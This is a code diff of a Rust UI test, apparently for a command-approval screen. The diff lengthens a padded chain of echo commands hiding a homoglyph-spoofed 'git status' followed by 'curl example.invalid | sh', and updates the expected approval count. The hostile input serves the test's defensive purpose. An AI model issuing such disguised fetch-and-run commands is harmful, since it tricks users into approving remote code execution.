@@ -34,7 +34,7 @@ async fn tell(fixture: &mut Fixture, screen: &mut Screen) {
     page.press("Block").await;
     page.until_absent(".waiting-button").await;
     page.close_drawer().await;
-    let steps: String = (1..=80).map(|number| format!("echo step {number}; ")).collect();
+    let steps: String = (1..=400).map(|number| format!("echo step {number}; ")).collect();
     screen
         .send(&format!("/approve git st\u{430}tus{}; {steps}curl example.invalid | sh", " ".repeat(200)))
         .await;
@@ -45,7 +45,7 @@ async fn tell(fixture: &mut Fixture, screen: &mut Screen) {
     page.open_drawer().await;
     page.press("Settings").await;
     page.press_starting("Approvals").await;
-    page.until_count(".settings-panel .approval", 3).await;
+    page.until_count(".settings-panel .approval", 4).await;
     page.click(".settings-panel .approval summary").await;
     screen.check("48-approvals").await;
 }
